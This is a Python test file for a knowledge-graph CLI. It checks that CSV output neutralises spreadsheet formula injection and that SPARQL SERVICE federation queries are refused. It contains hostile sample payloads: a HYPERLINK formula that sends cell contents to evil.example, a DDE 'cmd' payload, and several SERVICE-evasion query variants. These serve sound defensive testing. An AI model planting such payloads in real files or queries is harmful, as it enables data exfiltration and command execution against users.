"""What a hostile document or a query file from someone else cannot do: run a formula in
the spreadsheet that opens our CSV, or make `kg sparql` send requests to other servers.

The real `kg` against a store on disk holding a document whose names and titles begin with
formula characters; SERVICE is aimed at a socket this test listens on, so a request that
gets out is seen, not guessed.
"""

from __future__ import annotations

import csv
import io
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kg.export import FORMULA_START, spreadsheet_safe
from kg.store import open_store
from kg.store.oxigraph import uses_federation
from tests.conftest import ROOT
from tests.test_rdf import make_doc

KG = Path(sys.executable).with_name("kg")
if not KG.exists():
    KG = Path(shutil.which("kg") or "kg")

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]


def kg(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """The real CLI; output decoded without newline translation (a CR in a cell stays one)."""
    res = subprocess.run([KG, *args], cwd=ROOT, capture_output=True, timeout=300)
    return subprocess.CompletedProcess(res.args, res.returncode, res.stdout.decode("utf-8"),
                                       res.stderr.decode("utf-8", "replace"))


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "kg"
    with open_store(path) as store:
        for i, payload in enumerate(PAYLOADS):
            doc = make_doc(f"doc{i}", measure_title=payload)
            for org in doc.organizations:
                org.name = payload + org.name
            for m in doc.measures:
                for u in m.units:
                    u.name = payload + u.name
            store.put_document(doc)
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


def _assert_neutral(cells: list[str]) -> None:
    assert cells
    for cell in cells:
        if cell.lstrip("-").isdigit():
            continue  # a number written as a number (-1) is no formula
        assert not cell.startswith(FORMULA_START), repr(cell)
    for payload in PAYLOADS:  # the text itself is kept, behind the quote
        assert any(c.startswith("'" + payload) for c in cells), payload


def test_spreadsheet_safe_follows_owasp() -> None:
    assert [spreadsheet_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert spreadsheet_safe("黔江区教育委员会") == "黔江区教育委员会"
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(2.5) == 2.5 and spreadsheet_safe(None) is None


def test_kg_export_csv_neutralises_formulas(tmp_path: Path, hostile_store: Path) -> None:
    res = kg("export", "--store", hostile_store, "--format", "csv", "--out", tmp_path / "csv")
    assert res.returncode == 0, res.stderr
    cells = []
    for name in ("nodes.csv", "edges.csv"):
        cells += _cells((tmp_path / "csv" / name).read_bytes().decode("utf-8"))
    _assert_neutral(cells)


def test_kg_query_csv_neutralises_formulas(hostile_store: Path) -> None:
    cells: list[str] = []
    for name in ("unit-workload", "school-construction-units"):
        res = kg("query", name, "--store", hostile_store, "--format", "csv")
        assert res.returncode == 0, res.stderr
        cells += _cells(res.stdout)
    _assert_neutral(cells)
    numbers = _cells(kg("query", "unit-workload", "--store", hostile_store, "--format", "csv").stdout)
    assert any(c.isdigit() for c in numbers)  # counts stay numbers


def test_kg_sparql_csv_neutralises_formulas(hostile_store: Path) -> None:
    q = "SELECT ?label (-1 AS ?n) WHERE { ?o skos:prefLabel ?label } ORDER BY ?label"
    res = kg("sparql", q, "--store", hostile_store, "--format", "csv")
    assert res.returncode == 0, res.stderr
    cells = _cells(res.stdout)
    _assert_neutral(cells)
    assert "-1" in cells  # a number is not text: it keeps its sign


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """An HTTP endpoint on 127.0.0.1 that records what reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    got.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.1 500 no\r\ncontent-length: 0\r\n\r\n")
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}/sparql", got
    stop.set()
    thread.join()
    server.close()


DODGES = [
    "SELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "select * where {{ sErViCe <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ # a comment first\n  SERVICE<{url}>{{?s ?p ?o}} }}",
    "SELECT * WHERE {{ ?m a pkg:Measure . SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    'SELECT * WHERE {{ ?m a pkg:Measure . BIND("""a#""" AS ?x) SERVICE <{url}> {{ ?s ?p ?o }} }}',
    "SELECT * WHERE {{ ?m a pkg:Measure ; dcterms:title ?t SERVICE ?u {{ ?s ?p ?o }} }}",
]


@pytest.mark.parametrize("query", DODGES)
def test_kg_sparql_refuses_service(hostile_store: Path, listener: tuple[str, list[bytes]],
                                   query: str) -> None:
    url, got = listener
    text = query.format(url=url)
    res = kg("sparql", text, "--store", hostile_store, "--param", f"u=<{url}>")
    assert res.returncode == 1, res.stdout + res.stderr
    assert "uses SERVICE" in res.stderr and "--allow-federation" in res.stderr
    assert "Traceback" not in res.stderr
    assert got == []  # nothing left this machine


def test_kg_sparql_allow_federation_sends_the_request(hostile_store: Path,
                                                      listener: tuple[str, list[bytes]]) -> None:
    url, got = listener
    res = kg("sparql", DODGES[0].format(url=url), "--store", hostile_store, "--allow-federation")
    assert "Traceback" not in res.stderr
    assert got and got[0].startswith(b"POST /sparql")  # the option really lets it through


def test_the_word_in_an_iri_or_a_variable_is_not_federation() -> None:
    assert not uses_federation("SELECT ?service WHERE { ?service <http://example.org/service> ?o }")
    assert not uses_federation("SELECT * WHERE { ?m a pkg:Measure ; dcterms:title ?t }")
    # fail-closed where a lexer could be fooled: a string ending in quotes, 1SERVICE, escapes
    for q in ['SELECT * { ?s ?p """a"""" . SERVICE <x> { } FILTER(?s != "x") }',
              "SELECT * { ?s ?p 1SERVICE<x>{} }", "SELECT * { ?s ?p ex:.SERVICE<x>{} }",
              "SELECT * { \\u0053ERVICE <x> {} }"]:
        assert uses_federation(q), q
